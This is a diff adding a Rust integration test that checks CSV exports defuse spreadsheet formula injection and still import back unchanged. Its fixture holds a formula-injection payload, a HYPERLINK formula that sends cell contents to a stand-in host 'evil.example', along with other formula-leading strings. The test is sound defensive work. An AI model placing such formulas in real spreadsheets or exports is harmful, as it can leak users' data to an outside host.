@@ -225,6 +225,51 @@ async fn export_then_import_round_trips_every_kind_and_format() {
 }
 
 #[tokio::test]
+async fn csv_exports_defuse_spreadsheet_formulas_and_still_round_trip() {
+    let ctx = Ctx::new().await;
+    ctx.warehouse("W1").await;
+    let items = json!([
+        {"sku": "A-1", "name": "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
+         "description": "-2+3", "item_type": "+Tools", "brand": "@SUM(A1:A9)",
+         "unit": "piece", "tax_rate": "0.16", "active": true},
+        {"sku": "B-2", "name": "'=already quoted", "item_type": "Tools", "unit": "kg",
+         "tax_rate": "0", "active": true}
+    ]);
+    ctx.import_ok("items", "json", &items.to_string()).await;
+    let file = export(&ctx, "kind=items&format=csv").await;
+
+    let mut reader = csv::Reader::from_reader(file.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 2, "{file}");
+    for cell in rows.iter().flat_map(|r| r.iter()) {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a spreadsheet would run {cell:?}: {file}"
+        );
+    }
+    assert_eq!(
+        &rows[0][1],
+        "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"
+    );
+    assert_eq!(&rows[0][2], "'-2+3");
+    assert_eq!(&rows[0][3], "'+Tools");
+    assert_eq!(&rows[0][4], "'@SUM(A1:A9)");
+    assert_eq!(&rows[1][1], "''=already quoted");
+
+    // The escaped file imports back to exactly what was stored.
+    let again = ctx.import_ok("items", "csv", &file).await;
+    assert_eq!(report(&again), (0, 0, 2), "{file}");
+    let res = ctx
+        .call("GET", "/v1/admin/items/A-1", Some(&ctx.admin), None)
+        .await;
+    assert_eq!(
+        res.json["name"], "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
+        "{}",
+        res.json
+    );
+}
+
+#[tokio::test]
 async fn bad_parameters_and_unreadable_files_are_problems() {
     let ctx = Ctx::new().await;
     let res = ctx.import("things", "csv", "sku\n").await;
